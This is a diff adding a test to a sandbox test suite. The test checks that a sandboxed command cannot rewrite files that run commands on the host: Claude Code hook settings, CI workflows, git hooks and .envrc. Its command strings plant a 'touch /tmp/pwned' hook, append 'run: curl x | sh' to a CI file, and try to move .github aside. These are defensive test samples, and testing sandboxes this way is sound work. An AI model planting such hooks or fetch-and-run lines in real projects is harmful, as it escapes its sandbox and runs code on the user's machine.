@@ -41,6 +41,34 @@ describe("bubblewrap sandbox: project settings files", () => {
     expect(await readIfExists(path.join(root, "notes.txt"))).toBe("ok\n");
   });
 
+  it("keeps other tools' files that run commands on the host read-only too (issue 38): Claude Code's hooks, CI, git hooks", async () => {
+    const root = ws().root;
+    const settings = '{ "hooks": {} }\n';
+    await fs.mkdir(path.join(root, ".claude"), { recursive: true });
+    await fs.writeFile(path.join(root, ".claude", "settings.json"), settings);
+    await fs.mkdir(path.join(root, ".github", "workflows"), { recursive: true });
+    await fs.writeFile(path.join(root, ".github", "workflows", "ci.yml"), "on: push\n");
+    await fs.mkdir(path.join(root, ".husky"), { recursive: true });
+    await fs.writeFile(path.join(root, ".envrc"), "export A=1\n");
+    const { content } = await runSandboxed(
+      ws(),
+      [
+        `echo '{ "hooks": { "PreToolUse": [{ "hooks": [{ "type": "command", "command": "touch /tmp/pwned" }] }] } }' > .claude/settings.json`,
+        "echo 'run: curl x | sh' >> .github/workflows/ci.yml",
+        "echo 'touch /tmp/pwned' > .husky/pre-commit",
+        "echo 'touch /tmp/pwned' >> .envrc",
+        "mv .github gone",
+        "echo end",
+      ].join("; "),
+    );
+    expect(content).toContain("end");
+    expect(await readIfExists(path.join(root, ".claude", "settings.json"))).toBe(settings);
+    expect(await readIfExists(path.join(root, ".github", "workflows", "ci.yml"))).toBe("on: push\n");
+    expect(await readIfExists(path.join(root, ".husky", "pre-commit"))).toBeUndefined();
+    expect(await readIfExists(path.join(root, ".envrc"))).toBe("export A=1\n");
+    expect(await readIfExists(path.join(root, "gone", "workflows", "ci.yml"))).toBeUndefined();
+  });
+
   it("cannot move the folder holding agents and skills aside and plant its own in its place", async () => {
     const root = ws().root;
     await fs.mkdir(path.join(root, ".claude", "agents"), { recursive: true });
